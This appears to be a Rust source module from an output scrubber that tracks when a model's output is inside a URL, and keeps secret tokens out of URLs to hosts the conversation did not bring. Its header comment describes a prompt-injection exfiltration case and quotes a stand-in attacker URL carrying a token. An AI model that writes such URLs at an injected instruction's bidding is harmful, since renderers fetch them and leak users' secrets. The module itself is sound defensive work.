//! Where a text is inside a URL, and of which host.
//!
//! An injected instruction may make a model write `https://evil/?e=[TOKEN]`, and
//! a renderer fetches it. So a token stays inside a URL unless the conversation
//! brought the URL's host. A URL starts where a browser, a Markdown renderer or a
//! linkifier would see one, and ends where the most generous of them would end
//! it; where the two readings differ, the token stays.

mod carried;
mod ending;
mod host;
mod scheme;

use self::carried::Carried;
use self::ending::Ending;
use self::host::{AUTHORITY_BYTES_MAX, Hosts, dot_of, host_of, is_domain, is_ipv4};
use self::scheme::{Scheme, broken_scheme, is_dropped, is_scheme_char};

pub(in crate::scrub) use self::host::hosts_in;

/// How far back a URL's start is looked for.
pub(super) const LOOKBACK_BYTES_MAX: usize = 300;

/// Follows an output and knows when it is inside a URL.
pub(super) struct UrlGuard {
    state: State,
    ending: Ending,
    in_json: bool,
}

enum State {
    Outside,
    /// One slash was seen, and what two would mean.
    Slash {
        ending: Ending,
    },
    Authority {
        text: String,
        is_share: bool,
    },
    /// Behind the backslashes of what may be a file share.
    Share,
    /// Behind the scheme of an address.
    Address,
    Inside {
        is_allowed: bool,
        carried: Carried,
    },
}

impl UrlGuard {
    pub(super) fn new(in_json: bool) -> UrlGuard {
        UrlGuard { state: State::Outside, ending: Ending::default(), in_json }
    }

    /// Whether the output is within a URL.
    pub(super) fn is_inside(&self) -> bool {
        !matches!(self.state, State::Outside | State::Slash { .. })
    }

    /// Whether a token at this place stays a token.
    pub(super) fn blocks(&self) -> bool {
        matches!(self.state, State::Authority { .. } | State::Share | State::Inside { is_allowed: false, .. })
    }

    /// Something that is part of no URL's start was put out.
    pub(super) fn interrupt(&mut self) {
        if matches!(self.state, State::Slash { .. }) {
            self.state = State::Outside;
        }
    }

    /// Whether parsers drop `c` at this place (WHATWG URL, "tab or newline"),
    /// so that the slashes around it are the two that a host stands behind.
    pub(super) fn drops(&self, c: char) -> bool {
        matches!(&self.state, State::Slash { ending } if ending.is_destination()) && is_dropped(c)
    }

    /// Takes the next character of the output; `before` is the output up to it,
    /// from where the last value ended. Outside a URL only the characters of
    /// [`may_start_url`] need to come here.
    pub(super) fn feed(&mut self, c: char, before: &str, hosts: &mut impl Hosts) {
        match &mut self.state {
            State::Outside | State::Slash { .. } => self.feed_outside(c, before, hosts),
            State::Authority { .. } => self.feed_authority(c, hosts),
            State::Share => self.feed_share(c),
            State::Address => self.feed_address(c),
            State::Inside { .. } => self.feed_inside(c),
        }
    }

    fn feed_outside(&mut self, c: char, before: &str, hosts: &mut impl Hosts) {
        let slash = match std::mem::replace(&mut self.state, State::Outside) {
            State::Slash { ending } => Some(ending),
            _ => None,
        };
        match c {
            '/' | '\\' => match slash {
                Some(ending) if c == '\\' && before.ends_with('\\') && !ending.is_destination() => {
                    self.ending = ending;
                    self.state = State::Share;
                }
                Some(ending) => self.start(ending, String::new()),
                None => self.first_slash(c, before, hosts),
            },
            ':' => self.after_scheme(before),
            '?' | '#' => self.after_domain(c, before, hosts),
            '.' => {
                let word = word_before(before, |c| c.is_alphanumeric() || c == '-' || c == '_');
                if word.eq_ignore_ascii_case("www") {
                    self.start(Ending::of(before, word, self.in_json), "www.".to_owned());
                }
            }
            _ => {}
        }
    }

    fn start(&mut self, ending: Ending, authority: String) {
        self.ending = ending;
        self.state = State::Authority { text: authority, is_share: false };
    }

    fn first_slash(&mut self, c: char, before: &str, hosts: &mut impl Hosts) {
        let scheme_end = strip_colon(before);
        let scheme = scheme_end.map(|before| (before, word_before(before, is_scheme_char)));
        if let Some((before, word)) = scheme.filter(|(_, word)| !word.is_empty()) {
            if c == '/' {
                self.state = State::Slash { ending: Ending::of(before, word, self.in_json) };
            }
            return;
        }
        let ending = Ending::of(before, "", self.in_json);
        let is_fresh =
            before.chars().next_back().is_none_or(|last| last.is_whitespace() || "\"'`<>([{=|,;“‘«*".contains(last));
        match c {
            '/' if is_fresh => self.state = State::Slash { ending },
            '/' => self.after_domain(c, before, hosts),
            // Two backslashes start a file share, unless they go on something.
            _ if is_fresh || ending.is_destination() => self.state = State::Slash { ending },
            _ => {}
        }
    }

    fn after_scheme(&mut self, before: &str) {
        let word = word_before(before, is_scheme_char);
        let (broken, joined) = broken_scheme(before);
        let (word, scheme) = match (Scheme::of(word), Scheme::of(&joined)) {
            (None, Some(Scheme::Opaque)) => (broken, Some(Scheme::Opaque)),
            (scheme, _) => (word, scheme),
        };
        let Some(scheme) = scheme else { return };
        self.ending = Ending::of(before, word, self.in_json);
        self.state = match scheme {
            Scheme::Special => State::Authority { text: String::new(), is_share: false },
            Scheme::Opaque => State::Inside { is_allowed: false, carried: Carried::behind(':') },
            Scheme::Address => State::Address,
        };
    }

    /// `host.tld/`, `host.tld:8080/` and `host.tld?` are linked by many chats.
    fn after_domain(&mut self, c: char, before: &str, hosts: &mut impl Hosts) {
        let port_len = word_before(before, |c| c.is_ascii_digit()).len();
        let port = before[..before.len() - port_len].strip_suffix(':');
        let host = word_before(port.unwrap_or(before), |c| c.is_alphanumeric() || matches!(c, '.' | '-'));
        let authority = &before[port.unwrap_or(before).len() - host.len()..];
        let in_front = before[..before.len() - authority.len()].chars().next_back();
        if in_front.is_some_and(|c| matches!(c, '@' | '/' | '_')) {
            return;
        }
        // The letter behind a backslash may be the escape's.
        let escaped = authority.strip_prefix(['n', 'r', 't']).filter(|_| self.in_json && in_front == Some('\\'));
        let authority = escaped.unwrap_or(authority);
        if let Some(host) = host_of(authority).filter(|host| is_domain(host) || is_ipv4(host)) {
            self.ending = Ending::of(before, authority, self.in_json);
            self.state = State::Inside { is_allowed: hosts.visit(host), carried: Carried::behind(c) };
        }
    }

    fn feed_authority(&mut self, c: char, hosts: &mut impl Hosts) {
        let is_dot = dot_of(c).is_some();
        let ends = self.ending.ends_at(c) && !is_dot;
        let State::Authority { text: authority, is_share } = &mut self.state else { return };
        if is_dot && c != '.' {
            // Or it is the sentence's, and the host is whole.
            host_of(authority).filter(|host| is_domain(host)).map(|host| hosts.visit(host));
        }
        let is_slash = matches!(c, '/' | '\\');
        if !ends && is_slash && authority.is_empty() {
            return;
        }
        if ends {
            // A sentence may go on behind the host.
            host_of(authority.trim_end_matches(|c: char| c.is_ascii_punctuation() && c != ']'))
                .map(|host| hosts.visit(host));
            self.state = State::Outside;
        } else if is_slash || matches!(c, '?' | '#') {
            // Browsers end a URL's authority at a backslash, RFC 3986 does not.
            let is_allowed = (c != '\\' || *is_share) && host_of(authority).is_some_and(|host| hosts.visit(host));
            self.state = State::Inside { is_allowed, carried: Carried::behind(c) };
        } else if authority.len() < AUTHORITY_BYTES_MAX {
            authority.push(c);
        }
    }

    /// Where no name follows, the backslashes were escapes or a line break.
    fn feed_share(&mut self, c: char) {
        if c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '?' | UNTRUSTED) {
            self.state = State::Authority { text: c.into(), is_share: true };
        } else if !matches!(c, '/' | '\\') {
            self.state = State::Outside;
        }
    }

    fn feed_address(&mut self, c: char) {
        if self.ending.ends_at(c) {
            self.state = State::Outside;
        } else if matches!(c, '?' | '#' | '/' | '\\') {
            self.state = State::Inside { is_allowed: false, carried: Carried::behind(c) };
        }
    }

    fn feed_inside(&mut self, c: char) {
        if self.ending.ends_at(c) {
            self.state = State::Outside;
            return;
        }
        if let State::Inside { is_allowed, carried } = &mut self.state
            && *is_allowed
        {
            *is_allowed = !carried.feed(c);
        }
    }

    /// A value was put out, as part of the URL if the output is within one.
    pub(super) fn feed_value(&mut self) {
        self.interrupt();
        if let State::Inside { carried, .. } = &mut self.state {
            carried.feed_value();
        }
    }

    /// A value was put out that is itself a URL, or a host: what follows
    /// continues it.
    pub(super) fn feed_url_value(&mut self, value: &str, before: &str, hosts: &mut impl Hosts) {
        let after_scheme = value.split_once("://").map_or(value, |(_, rest)| rest);
        self.start(Ending::of(before, "", self.in_json), String::new());
        for c in after_scheme.chars() {
            if self.is_inside() {
                self.feed(c, "", hosts);
            }
        }
    }

    /// What a character that was spelled as an escape counts as. Readers of the
    /// output differ in whether they decode it, so it may start a URL but neither
    /// end one nor name an allowed host.
    pub(super) fn escaped(&self, c: char) -> char {
        match self.state {
            State::Authority { .. } => UNTRUSTED,
            _ if may_start_url(c) => c,
            State::Inside { .. } if c == '%' => ESCAPED_PERCENT,
            _ => UNTRUSTED,
        }
    }
}

/// Stands for an escape; no host holds it.
const UNTRUSTED: char = '%';
/// Stands for an escape of the character that starts escapes.
const ESCAPED_PERCENT: char = '\0';

/// Whether a URL may be seen to start with this character.
pub(super) fn may_start_url(c: char) -> bool {
    matches!(c, '/' | '\\' | ':' | '?' | '#' | '.')
}

/// The end of `text` that a URL's start is looked for in.
pub(super) fn lookback(text: &str) -> &str {
    &text[text.ceil_char_boundary(text.len().saturating_sub(LOOKBACK_BYTES_MAX))..]
}

/// The longest end of `text` of such characters.
fn word_before(text: &str, is_part: impl Fn(char) -> bool) -> &str {
    let len: usize = text.chars().rev().take_while(|c| is_part(*c)).map(char::len_utf8).sum();
    &text[text.len() - len..]
}

/// `before` without the colon at its end, however it is spelled.
fn strip_colon(before: &str) -> Option<&str> {
    let spellings = [":", "&colon;", "&#58;", "&#x3a;", "&#x3A;", "\\u003a", "\\u003A", "%3A", "%3a"];
    let before = before.strip_suffix('\\').unwrap_or(before);
    spellings.iter().find_map(|colon| before.strip_suffix(colon))
}
